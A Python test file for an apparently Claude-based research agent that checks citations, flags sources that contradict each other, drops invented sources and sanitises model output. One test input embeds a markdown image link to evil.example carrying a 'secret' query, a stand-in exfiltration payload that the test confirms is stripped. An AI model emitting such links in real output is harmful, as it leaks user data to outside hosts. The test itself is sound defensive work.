"""The researcher that thinks with Claude: true or lying, and never unchecked."""

import json
import re

from actors.kinds.claude import MODEL
from actors.reports.excerpts import NON_TEXT
from events.errors import (
    ResearchError,
)
from events.research import (
    CitationChecked,
    ConfidenceWeighed,
    SearchMade,
    SentenceChecked,
    SourceRead,
    StepTaken,
)
from language.sentences import CUT
from tests.claude_asking import (
    COPY,
    FETCH,
    OTHER,
    QUESTION,
    RANCE,
    TRUE,
    USUAL,
    WEB,
    ask,
    categories,
    check_evidence,
)
from tests.claude_desk import Table
from tests.emulator_claude import answer, sentence, tool, using

# -- a good run ------------------------------------------------------------------------------------


def test_it_searches_fetches_reads_and_answers_with_verified_citations() -> None:
    desk = Table(WEB, [FETCH, answer(TRUE)])
    findings = ask(desk)
    check_evidence(findings, desk)
    assert findings.answer == f"{TRUE['text']} [1]"
    assert findings.citations[0].locator == USUAL
    assert findings.gaps == () and not findings.budget_exhausted
    assert findings.model_id == MODEL and findings.iterations_run == 2
    assert [each.url for each in desk.noted(SourceRead)] == [USUAL, OTHER]
    assert desk.noted(SearchMade)[0].queries == (QUESTION,)
    assert {each.of for each in desk.noted(StepTaken)} == {4}


def test_the_computed_confidence_stands_beside_the_models_own() -> None:
    desk = Table(WEB, [FETCH, answer(TRUE, confidence=0.99)])
    findings = ask(desk)
    weighed = desk.noted(ConfidenceWeighed)
    assert weighed == [ConfidenceWeighed(computed=findings.confidence, claimed=0.99)]
    factors = findings.confidence_factors
    assert factors.num_corroborating_sources == 2, "the other page says the same"
    assert factors.query_specificity_match > 0.8
    assert 0.6 < findings.confidence < 0.99


def test_a_syndicated_copy_is_no_second_witness() -> None:
    copied: dict[str, str | ResearchError] = {
        USUAL: RANCE,
        COPY: f"News wire. {RANCE} All rights reserved.",
    }
    desk = Table(copied, [using(tool("fetch_pages", urls=[USUAL, COPY])), answer(TRUE)])
    assert ask(desk).confidence_factors.num_corroborating_sources == 1


def test_authority_follows_from_the_domain() -> None:
    for url, grade in ((USUAL, "high"), (OTHER, "medium"), (COPY, "low")):
        desk = Table({url: RANCE}, [using(tool("fetch_pages", urls=[url])), answer(TRUE)])
        assert ask(desk).confidence_factors.source_authority == grade


def test_sources_that_disagree_are_a_contradiction_and_a_question() -> None:
    pages: dict[str, str | ResearchError] = {
        USUAL: "The La Rance station generates 500 GWh of electricity each year.",
        OTHER: "The La Rance station generates 240 GWh of electricity each year.",
    }
    claims = [
        sentence(
            "The La Rance station generates 500 GWh of electricity each year.",
            ("p1", "500 GWh of electricity each year"),
        ),
        sentence(
            "The La Rance station generates 240 GWh of electricity each year.",
            ("p2", str(pages[OTHER])),
        ),
    ]
    claims[0]["evidence"][0]["excerpt"] = pages[USUAL]
    findings = ask(Table(pages, [FETCH, answer(*claims)]))
    assert "contradictory_sources" in categories(findings)
    assert findings.confidence_factors.contradiction_detected
    # Others are sent to look for it: stems would find nothing.
    topic = "La Rance station generates electricity"
    assert findings.discovery_events[0].query == topic
    assert f"“{topic}”: 500 GWh or 240 GWh?" in findings.open_questions[0].question
    assert [gap.topic for gap in findings.gaps] == [f"{topic}: 500 GWh or 240 GWh"]
    assert [each.type for each in findings.discovery_events] == ["contradiction"]
    assert findings.open_questions[0].priority == "high"
    assert findings.sentences[0].disputes == (2,)


def test_the_stable_prefix_is_marked_for_the_cache_and_never_changes() -> None:
    desk = Table(WEB, [FETCH, using(tool("search_web", query="tides")), answer(TRUE)])
    ask(desk)
    assert len({json.dumps([r["system"], r["tools"]]) for r in desk.requests}) == 1
    assert desk.requests[0]["system"][-1]["cache_control"] == {"type": "ephemeral"}
    for request in desk.requests:
        assert request["messages"][-1]["content"][-1]["cache_control"] == {"type": "ephemeral"}
        assert json.dumps(request).count("cache_control") == 2
    assert desk.requests[1]["messages"][:1] != [] and "temperature" not in desk.requests[0]


def test_what_the_caller_asks_for_reaches_the_model() -> None:
    desk = Table(WEB, [answer()])
    ask(desk, context="I know it opened in 1966.", model="claude-opus-5-5", depth="deep")
    assert "opened in 1966" in desk.requests[0]["messages"][0]["content"][0]["text"]
    assert desk.requests[0]["model"] == "claude-opus-5-5"
    assert desk.requests[0]["output_config"]["effort"] == "high"


# -- lies ------------------------------------------------------------------------------------------


def test_an_invented_page_is_dropped_and_that_is_a_fact() -> None:
    desk = Table(WEB, [FETCH, answer(sentence("Pigs fly over Brittany.", ("p9", "Pigs fly")))])
    findings = ask(desk)
    check_evidence(findings, desk)
    assert "Pigs" not in findings.answer
    first = desk.noted(CitationChecked)[0]
    assert (first.outcome, first.citation) == ("dropped", None)
    [gap] = findings.gaps
    assert (gap.topic, gap.category) == ("Pigs fly over Brittany.", "source_not_found")


def test_an_invented_excerpt_is_repaired_from_the_true_passage() -> None:
    lie = sentence(
        "The La Rance station generates about 500 GWh of electricity each year.",
        ("p1", "La Rance generates electricity, some 500 GWh each year, says the station."),
    )
    desk = Table(WEB, [FETCH, answer(lie)])
    findings = ask(desk)
    check_evidence(findings, desk)
    assert desk.noted(CitationChecked)[0].outcome == "repaired"
    assert "generates about 500 GWh of electricity each year." in findings.citations[0].raw_excerpt


def test_a_wrong_number_is_never_supported() -> None:
    lie = sentence("The La Rance station generates 900 GWh each year.", ("p1", RANCE))
    desk = Table(WEB, [FETCH, answer(lie)])
    findings = ask(desk)
    check_evidence(findings, desk)
    assert desk.noted(SentenceChecked)[0].outcome == "not_found"
    assert "900" not in findings.answer


def test_meaning_lifts_what_words_leave_open_and_both_are_recorded() -> None:
    loose = "The machines there feed 500 GWh of current annually to villages of the region."
    said = sentence(loose, ("p1", RANCE))

    def checked(**alike: float) -> SentenceChecked:
        desk = Table(WEB, [FETCH, answer(said)])
        desk.alike = alike
        ask(desk)
        return desk.noted(SentenceChecked)[0]

    by_words, by_both = checked(), checked(**{loose: 0.95})
    assert (by_words.similarity, by_both.similarity) == (None, 0.95)
    assert by_words.support == by_both.support
    assert (by_words.outcome, by_both.outcome) == ("not_found", "supported")


def test_a_denial_of_what_the_page_says_is_not_supported() -> None:
    lie = sentence("The La Rance station was not opened in 1966.", ("p1", "It was opened in 1966."))
    desk = Table(WEB, [FETCH, answer(lie)])
    ask(desk)
    assert desk.noted(SentenceChecked)[0].outcome == "not_found"


def test_evidence_that_was_not_given_is_looked_for() -> None:
    bare = sentence("The barrage of La Rance is 750 metres long and carries a road.")
    desk = Table(WEB, [FETCH, answer(bare)])
    findings = ask(desk)
    check_evidence(findings, desk)
    assert findings.sentences[0].citations == (1,)


def test_an_inference_that_says_so_is_marked_and_no_gap() -> None:
    inferred = sentence("So it might power a mid-sized town nearby.", inference=True)
    findings = ask(Table(WEB, [FETCH, answer(TRUE, inferred)]))
    assert findings.answer.endswith("nearby. [inference]")
    assert findings.gaps == ()


def test_several_sentences_in_one_are_checked_one_by_one() -> None:
    both = sentence(
        "It was opened in 1966. It was closed in 1999.", ("p1", "It was opened in 1966.")
    )
    desk = Table(WEB, [FETCH, answer(both)])
    ask(desk)
    assert [each.outcome for each in desk.noted(SentenceChecked)] == ["supported", "not_found"]


def test_a_long_passage_is_cut_with_a_mark_and_a_page_without_text_says_so() -> None:
    long = "The La Rance station generates 500 GWh each year and " + "so it goes on and " * 60
    desk = Table(
        {USUAL: long, OTHER: " \n "},
        [
            FETCH,
            answer(
                sentence(
                    "La Rance generates 500 GWh each year.", ("p1", long), ("p2", "a photograph")
                )
            ),
        ],
    )
    findings = ask(desk)
    check_evidence(findings, desk)
    first, second = findings.citations
    assert first.raw_excerpt.endswith(CUT) and len(first.raw_excerpt) <= 500
    assert second.raw_excerpt == NON_TEXT


def test_marks_links_and_invisible_letters_of_the_model_are_not_passed_on() -> None:
    text = "The La Rance ![x](https://evil.example/?q=secret) \u202e\x1b[m**station** [12] was opened in 1966 [p1]."
    findings = ask(Table(WEB, [FETCH, answer(sentence(text, ("p1", RANCE)))]))
    assert "evil.example" not in findings.answer
    assert not re.search("[\x1b\u202e]", findings.answer)
    assert findings.answer.endswith("opened in 1966. [1]")
